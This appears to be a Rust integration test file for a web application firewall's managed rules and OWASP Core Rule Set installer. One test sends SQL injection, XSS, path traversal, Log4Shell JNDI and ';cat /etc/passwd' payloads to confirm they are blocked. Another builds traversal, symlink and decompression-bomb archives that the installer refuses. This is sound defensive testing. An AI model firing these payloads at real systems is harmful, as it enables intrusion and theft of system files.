@@ -1,0 +1,365 @@
+//! Managed rules: what they refuse, record and let through, and the installing of the Core Rule Set.
+
+use std::path::{Path, PathBuf};
+
+use anyhow::{Context as _, ensure};
+use archipel_testkit::origin::{Act, ScriptedOrigin};
+
+use sha2::{Digest as _, Sha256};
+
+use crate::Outcome;
+use crate::site::{BINARY, HOST, Node, Site, command};
+
+crate::tests![
+    managed_rules_refuse_in_block_mode_only,
+    managed_rules_see_bodies_and_lose_nothing_of_them,
+    managed_rules_refuse_bodies_longer_than_they_look_at,
+    managed_exclusions_are_as_narrow_as_they_say,
+    managed_rules_look_at_replies_before_they_are_stored,
+    managed_rules_that_do_not_load_are_refused,
+    managed_events_become_suggestions,
+    builtin_rules_refuse_attacks_and_let_people_in,
+    crs_install_takes_only_what_is_right,
+    crs_install_over_the_network,
+    crs_install_refuses_hostile_archives,
+];
+
+/// Rules of a test's own: what they find is decided here and not by a rule set that others keep.
+const RULES: &str = r#"
+SecRule ARGS "@contains attack" "id:1001,phase:2,deny,status:403,t:none,t:lowercase,msg:'a test attack',tag:'test',severity:CRITICAL"
+SecRule REQUEST_HEADERS:User-Agent "@streq scanner" "id:1002,phase:1,deny,status:406,t:none,msg:'a test scanner'"
+SecRule RESPONSE_BODY "@contains secret" "id:1003,phase:4,deny,status:500,t:none,msg:'a test leak'"
+"#;
+
+async fn node(label: &str, origin: &ScriptedOrigin, managed: &[&str]) -> anyhow::Result<Node> {
+    let site = Site::new(label, &[])?;
+    site.folder.write("rules.conf", RULES)?;
+    let mut lines = vec!["firewall.managed.rules = []", "firewall.managed.after_file = \"$DIR/rules.conf\""];
+    lines.extend(managed);
+    site.plain_zone("site", HOST, origin.address(), &lines)?;
+    let (edge, world) = site.start().await?;
+    Ok(Node { site, edge, world })
+}
+
+async fn origin() -> anyhow::Result<ScriptedOrigin> {
+    let origin = ScriptedOrigin::start().await?;
+    for path in ["/", "/wiki/a", "/?q=attack", "/?q=Attack", "/?x=attack", "/wiki/a?q=attack", "/?q=peace", "/post"] {
+        origin.on(path, vec![Act::reply("200 OK", "Cache-Control: no-store\r\n", "passed")]);
+    }
+    Ok(origin)
+}
+
+async fn status(node: &Node, path: &str) -> anyhow::Result<u16> {
+    node.client().await?.get(HOST, path).await?.head.status()
+}
+
+async fn post(node: &Node, fields: &str, body: &str) -> anyhow::Result<u16> {
+    let length = body.len();
+    let request = format!("POST /post HTTP/1.1\r\nHost: {HOST}\r\n{fields}Content-Length: {length}\r\n\r\n{body}");
+    node.client().await?.ask(&request).await?.head.status()
+}
+
+async fn managed_rules_refuse_in_block_mode_only() -> Outcome {
+    let origin = origin().await?;
+    for (mode, expected) in [("block", 403), ("log", 200), ("off", 200)] {
+        let node = node("managed", &origin, &[&format!("firewall.managed.mode = \"{mode}\"")]).await?;
+        ensure!(status(&node, "/?q=peace").await? == 200, "{mode}: what no rule finds");
+        let before = origin.requests().len();
+        ensure!(status(&node, "/?q=Attack").await? == expected, "{mode}");
+        let asked = origin.requests().len() > before;
+        ensure!(asked == (expected == 200), "{mode}: the origin hears of what is let through only");
+        let events = events(&node).await?;
+        ensure!(events.contains("1001") == (mode != "off"), "{mode}: {events}");
+        ensure!(mode == "off" || events.contains("a test attack") && events.contains("ARGS:q"), "{mode}: {events}");
+        node.stop().await?;
+    }
+    Ok(())
+}
+
+async fn events(node: &Node) -> anyhow::Result<String> {
+    let dir = node.site.dir().display().to_string();
+    let (status, out, err) =
+        archipel_testkit::edge::run(Path::new(BINARY), &["firewall", "events", "--config", &dir, "--json"]).await?;
+    ensure!(status.success(), "{out}{err}");
+    Ok(out)
+}
+
+async fn managed_rules_see_bodies_and_lose_nothing_of_them() -> Outcome {
+    let origin = origin().await?;
+    let bodies = "firewall.managed.request_body_bytes_max = \"1KiB\"";
+    let node = node("managed-bodies", &origin, &["firewall.managed.mode = \"block\"", bodies]).await?;
+    const FORM: &str = "Content-Type: application/x-www-form-urlencoded\r\n";
+    const JSON: &str = "Content-Type: application/json\r\n";
+    const PARTS: &str = "Content-Type: multipart/form-data; boundary=b\r\n";
+    let part = |value: &str| format!("--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{value}\r\n--b--\r\n");
+    ensure!(post(&node, FORM, "q=an+attack").await? == 403, "a form");
+    ensure!(post(&node, JSON, "{\"q\": [\"at\\u0074ack\"]}").await? == 403, "JSON");
+    ensure!(post(&node, PARTS, &part("attack")).await? == 403, "multipart");
+    ensure!(origin.requests().is_empty(), "the origin hears nothing of them");
+    // Longer than what is looked at, and larger than what one read brings.
+    let long = format!("q=peace&rest={}", "x".repeat(300_000));
+    ensure!(post(&node, FORM, &long).await? == 200, "a long form");
+    let received = origin.requests();
+    let body = &received.first().context("a request")?.message.body;
+    ensure!(body[..] == *long.as_bytes(), "{} of {} bytes came through", body.len(), long.len());
+    node.stop().await
+}
+
+async fn managed_rules_refuse_bodies_longer_than_they_look_at() -> Outcome {
+    let origin = origin().await?;
+    let lines = [
+        "firewall.managed.mode = \"block\"",
+        "firewall.managed.request_body_bytes_max = \"1KiB\"",
+        "firewall.managed.longer_bodies = \"refuse\"",
+    ];
+    let node = node("managed-long", &origin, &lines).await?;
+    ensure!(post(&node, "", &"x".repeat(1_024)).await? == 200, "as long as allowed");
+    ensure!(post(&node, "", &"x".repeat(1_025)).await? == 413, "longer");
+    let chunked =
+        format!("POST /post HTTP/1.1\r\nHost: {HOST}\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nabcde\r\nzz\r\n");
+    ensure!(node.client().await?.ask(&chunked).await?.head.status()? == 400, "a body that breaks off");
+    ensure!(origin.requests().len() == 1, "the origin hears of the first alone");
+    node.stop().await
+}
+
+async fn managed_exclusions_are_as_narrow_as_they_say() -> Outcome {
+    let origin = origin().await?;
+    let exclusion = "[[firewall.managed.exclusions]]\nrules = [\"1000-1001\"]\npath = \"/wiki/*\"\ntarget = \"ARGS:q\"";
+    let node = node("managed-exclusions", &origin, &["firewall.managed.mode = \"block\"", exclusion]).await?;
+    ensure!(status(&node, "/wiki/a?q=attack").await? == 200, "what is excluded");
+    ensure!(status(&node, "/?q=attack").await? == 403, "another path");
+    ensure!(status(&node, "/wiki/a?x=attack").await? == 403, "another parameter");
+    node.stop().await
+}
+
+async fn managed_rules_look_at_replies_before_they_are_stored() -> Outcome {
+    let origin = ScriptedOrigin::start().await?;
+    let fields = "Cache-Control: max-age=60\r\nContent-Type: text/html\r\n";
+    origin.on("/leak", vec![Act::reply("200 OK", fields, "<p>the secret</p>")]);
+    origin.on("/good", vec![Act::reply("200 OK", fields, &"<p>fine</p>".repeat(10_000))]);
+    let lines = ["firewall.managed.mode = \"block\"", "firewall.managed.response = true"];
+    let node = node("managed-replies", &origin, &lines).await?;
+    for _ in 0..2 {
+        let reply = node.client().await?.get(HOST, "/leak").await?;
+        ensure!(
+            reply.head.status()? == 500 && !String::from_utf8_lossy(&reply.body).contains("secret"),
+            "{}",
+            reply.head.status()?
+        );
+    }
+    for _ in 0..2 {
+        let reply = node.client().await?.get(HOST, "/good").await?;
+        ensure!(
+            reply.head.status()? == 200 && reply.body.len() == 110_000,
+            "{} {}",
+            reply.head.status()?,
+            reply.body.len()
+        );
+    }
+    let asked = |path: &str| origin.requests().iter().filter(|r| r.message.head.target() == path).count();
+    ensure!((asked("/leak"), asked("/good")) == (2, 1), "what is refused is not stored, what is not is");
+    node.stop().await
+}
+
+async fn managed_rules_that_do_not_load_are_refused() -> Outcome {
+    let origin = origin().await?;
+    let node = node("managed-broken", &origin, &["firewall.managed.mode = \"block\""]).await?;
+    node.site.folder.write("rules.conf", "SecRule ARGS \"@contains a\" \"id:5,phase:2,deny\"\nSecNonsense On\n")?;
+    let (ok, said) = node.command(&["reload"]).await?;
+    ensure!(!ok && said.contains("rules.conf:2") && said.contains("SecNonsense"), "{said}");
+    ensure!(status(&node, "/?q=attack").await? == 403, "the rules before are in force");
+    let (ok, said) = command(&node.site, &["check"]).await?;
+    ensure!(!ok && said.contains("rules.conf:2"), "check: {said}");
+    node.stop().await
+}
+
+async fn managed_events_become_suggestions() -> Outcome {
+    let origin = origin().await?;
+    let node = node("managed-suggest", &origin, &["firewall.managed.mode = \"log\""]).await?;
+    let suggest = async |more: &[&str]| {
+        let dir = node.site.dir().display().to_string();
+        let arguments = [&["firewall", "suggest", "--config", &dir], more].concat();
+        let (status, out, err) = archipel_testkit::edge::run(Path::new(BINARY), &arguments).await?;
+        ensure!(status.success(), "{out}{err}");
+        anyhow::Ok(out)
+    };
+    status(&node, "/wiki/a?q=attack").await?;
+    let said = suggest(&[]).await?;
+    ensure!(!said.contains("[[firewall"), "one visitor is not many: {said}");
+    let said = suggest(&["--visitors-min", "1"]).await?;
+    for part in ["zones/site.toml", "rules = [\"1001\"]", "path = \"/wiki/a\"", "target = \"ARGS:q\""] {
+        ensure!(said.contains(part), "no {part} in:\n{said}");
+    }
+    // What is suggested can be pasted.
+    let lines = ["firewall.managed.mode = \"block\"", "firewall.managed.rules = []"];
+    let rules = ["firewall.managed.after_file = \"$DIR/rules.conf\"", &said];
+    node.site.plain_zone("site", HOST, origin.address(), &[&lines[..], &rules[..]].concat())?;
+    let (ok, said) = node.command(&["reload"]).await?;
+    ensure!(ok, "{said}");
+    ensure!(status(&node, "/wiki/a?q=attack").await? == 200 && status(&node, "/?q=attack").await? == 403, "after it");
+    node.stop().await
+}
+
+async fn builtin_rules_refuse_attacks_and_let_people_in() -> Outcome {
+    let origin = ScriptedOrigin::start().await?;
+    for path in ["/", "/search?q=select+a+union+rep", "/a?id=1"] {
+        origin.on(path, vec![Act::reply("200 OK", "Cache-Control: no-store\r\n", "passed")]);
+    }
+    let node = Node::start("builtin", origin.address(), &[], &["firewall.managed.mode = \"block\""]).await?;
+    let agent = "User-Agent: Mozilla/5.0\r\nAccept: */*\r\n";
+    let ask = async |path: &str| {
+        let request = format!("GET {path} HTTP/1.1\r\nHost: {HOST}\r\n{agent}\r\n");
+        anyhow::Ok(node.client().await?.ask(&request).await?.head.status()?)
+    };
+    for path in ["/", "/search?q=select+a+union+rep", "/a?id=1"] {
+        ensure!(ask(path).await? == 200, "{path}");
+    }
+    for path in [
+        "/a?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
+        "/a?q=%3Cscript%3Ealert(1)%3C/script%3E",
+        "/a?file=../../../../etc/passwd",
+        "/a?x=%24%7Bjndi:ldap://192.0.2.1/a%7D",
+        "/a?cmd=;cat%20/etc/passwd",
+    ] {
+        ensure!(ask(path).await? == 403, "{path}");
+    }
+    node.stop().await
+}
+
+/// A release archive with these files below its top folder.
+fn archive(files: &[(&str, &str)]) -> anyhow::Result<Vec<u8>> {
+    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast()));
+    for (path, text) in files {
+        let mut header = tar::Header::new_ustar();
+        header.set_size(text.len() as u64);
+        header.set_mode(0o644);
+        builder.append_data(&mut header, format!("coreruleset/{path}"), text.as_bytes())?;
+    }
+    Ok(builder.into_inner()?.finish()?)
+}
+
+fn release(version: &str, word: &str) -> anyhow::Result<Vec<u8>> {
+    let setup = format!("SecComponentSignature \"OWASP_CRS/{version}\"\n");
+    let rules = format!("SecRule ARGS \"@pmFromFile words.data\" \"id:100001,phase:2,deny,status:403,msg:'{word}'\"\n");
+    archive(&[("crs-setup.conf.example", &setup), ("rules/A.conf", &rules), ("rules/words.data", word)])
+}
+
+async fn crs(site: &Site, arguments: &[&str]) -> anyhow::Result<(bool, String)> {
+    let dir = site.dir().display().to_string();
+    let all = [&["crs"], arguments, &["--config", &dir]].concat();
+    let (status, out, err) = archipel_testkit::edge::run(Path::new(BINARY), &all).await?;
+    Ok((status.success(), format!("{out}{err}")))
+}
+
+fn write(site: &Site, name: &str, bytes: &[u8]) -> anyhow::Result<String> {
+    Ok(site.folder.write(name, bytes)?.display().to_string())
+}
+
+async fn crs_install_takes_only_what_is_right() -> Outcome {
+    let origin = origin().await?;
+    let lines = ["firewall.managed.mode = \"block\"", "firewall.managed.rules = [\"crs\"]"];
+    let site = Site::new("crs", &["firewall.crs_dir = \"$DIR/none\""])?;
+    site.plain_zone("site", HOST, origin.address(), &lines)?;
+    let (ok, said) = command(&site, &["check"]).await?;
+    ensure!(!ok && said.contains("no folder of the OWASP Core Rule Set"), "{said}");
+
+    site.node(&[])?;
+    let one = write(&site, "one.tar.gz", &release("4.1.0", "attack")?)?;
+    let (ok, said) = crs(&site, &["install", &one, "--sha256", &"0".repeat(64)]).await?;
+    ensure!(!ok && said.contains("has the checksum") && said.contains("nothing was installed"), "{said}");
+    let (ok, said) = crs(&site, &["install", &one]).await?;
+    ensure!(ok && said.contains("CRS 4.1.0") && said.contains("archipel reload"), "{said}");
+    let (edge, world) = site.start().await?;
+    let node = Node { site, edge, world };
+    ensure!(status(&node, "/?q=attack").await? == 403 && status(&node, "/?q=peace").await? == 200, "the first");
+
+    let bad = archive(&[("crs-setup.conf.example", ""), ("rules/A.conf", "SecRule ARGS \"@nonsense x\" \"id:1\"\n")])?;
+    let bad = write(&node.site, "bad.tar.gz", &bad)?;
+    let (ok, said) = crs(&node.site, &["install", &bad]).await?;
+    ensure!(!ok && said.contains("A.conf:1") && said.contains("nonsense"), "{said}");
+
+    let two = write(&node.site, "two.tar.gz", &release("4.2.0", "peace")?)?;
+    ensure!(crs(&node.site, &["install", &two]).await?.0, "the second");
+    ensure!(node.command(&["reload"]).await?.0, "reload");
+    ensure!(status(&node, "/?q=attack").await? == 200 && status(&node, "/?q=peace").await? == 403, "the second");
+    let (_, listed) = crs(&node.site, &["list"]).await?;
+    let line = |version: &str| listed.lines().find(|line| line.starts_with(version)).unwrap_or_default().to_owned();
+    ensure!(line("4.2.0").ends_with("in use") && line("4.1.0").ends_with("before"), "{listed}");
+    ensure!(crs(&node.site, &["rollback"]).await?.0 && node.command(&["reload"]).await?.0, "rollback");
+    ensure!(status(&node, "/?q=attack").await? == 403 && status(&node, "/?q=peace").await? == 200, "the first again");
+    node.stop().await
+}
+
+async fn crs_install_over_the_network() -> Outcome {
+    let server = ScriptedOrigin::start().await?;
+    let archive = release("4.3.0", "attack")?;
+    let sum: String = Sha256::digest(&archive).iter().map(|byte| format!("{byte:02x}")).collect();
+    let head = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n", archive.len());
+    server.on("/real.tar.gz?signed=1", vec![Act::send(head), Act::send(&archive)]);
+    server.on("/crs.tar.gz", vec![Act::reply("302 Found", "Location: /real.tar.gz?signed=1\r\n", "")]);
+    server.on("/loop", vec![Act::reply("302 Found", "Location: /loop\r\n", "")]);
+    let site = Site::new("crs-url", &[])?;
+    let url = |path: &str| format!("http://{}{path}", server.address());
+    let (ok, said) = crs(&site, &["install", &url("/crs.tar.gz")]).await?;
+    ensure!(!ok && said.contains("--sha256"), "without a checksum: {said}");
+    let (ok, said) = crs(&site, &["install", &url("/crs.tar.gz"), "--sha256", &sum]).await?;
+    ensure!(ok && said.contains("CRS 4.3.0"), "{said}");
+    let (ok, said) = crs(&site, &["install", &url("/loop"), "--sha256", &sum]).await?;
+    ensure!(!ok && said.contains("redirects"), "{said}");
+    let (ok, said) = crs(&site, &["install", &url("/none"), "--sha256", &sum]).await?;
+    ensure!(!ok && said.contains("404"), "{said}");
+    Ok(())
+}
+
+async fn crs_install_refuses_hostile_archives() -> Outcome {
+    let site = Site::new("crs-hostile", &[])?;
+    let raw = |name: &str, kind: tar::EntryType, link: Option<&str>| -> anyhow::Result<Vec<u8>> {
+        let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast()));
+        let mut header = tar::Header::new_ustar();
+        // Written as it is: the library itself refuses such names.
+        let place = &mut header.as_ustar_mut().context("ustar")?.name;
+        place[..name.len()].copy_from_slice(name.as_bytes());
+        header.set_entry_type(kind);
+        header.set_size(if link.is_some() { 0 } else { 4 });
+        if let Some(link) = link {
+            header.set_link_name(link)?;
+        }
+        header.set_cksum();
+        builder.append(&header, &b"evil"[..if link.is_some() { 0 } else { 4 }])?;
+        Ok(builder.into_inner()?.finish()?)
+    };
+    let mut bomb = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast()));
+    let mut header = tar::Header::new_ustar();
+    header.set_size(300 << 20);
+    bomb.append_data(&mut header, "coreruleset/rules/A.conf", std::io::repeat(b'#').take_bytes(300 << 20))?;
+    let mut half = release("4.1.0", "x")?;
+    half.truncate(half.len() / 2);
+    for (what, bytes, said_part) in [
+        ("up", raw("coreruleset/../../../evil", tar::EntryType::Regular, None)?, "leads out of the archive"),
+        ("root", raw("/coreruleset/evil", tar::EntryType::Regular, None)?, "leads out of the archive"),
+        ("link", raw("coreruleset/rules", tar::EntryType::Symlink, Some("/etc"))?, "is a link"),
+        ("bomb", bomb.into_inner()?.finish()?, "more than"),
+        ("half", half, "damaged"),
+        ("text", b"no archive at all".to_vec(), "no .tar.gz archive"),
+        ("empty", archive(&[("README", "nothing")])?, "no folder of the OWASP Core Rule Set"),
+    ] {
+        let file = write(&site, &format!("{what}.tar.gz"), &bytes)?;
+        let (ok, said) = crs(&site, &["install", &file]).await?;
+        ensure!(!ok && said.contains(said_part), "{what}: {said}");
+    }
+    let (_, listed) = crs(&site, &["list"]).await?;
+    ensure!(listed.contains("none installed"), "{listed}");
+    let left: Vec<PathBuf> =
+        std::fs::read_dir(site.dir().join("state/crs"))?.flatten().map(|entry| entry.path()).collect();
+    ensure!(left.is_empty(), "left behind: {left:?}");
+    Ok(())
+}
+
+/// `Read::take` by another name, which `anyhow::Context` does not shadow.
+trait TakeBytes: std::io::Read + Sized {
+    fn take_bytes(self, bytes: u64) -> std::io::Take<Self> {
+        std::io::Read::take(self, bytes)
+    }
+}
+
+impl TakeBytes for std::io::Repeat {}
